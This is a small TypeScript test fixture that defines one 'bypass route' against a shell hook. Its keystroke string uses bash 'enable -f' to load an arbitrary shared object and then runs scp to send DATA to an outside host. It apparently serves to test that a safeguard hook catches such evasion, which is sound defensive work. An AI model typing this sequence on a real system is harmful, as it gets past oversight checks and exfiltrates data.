import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'enable -f',
  source: 'attempts to get round a hook of the shell',
  keys: ['enable -f ./x.so x; scp DATA host:\r'],
};
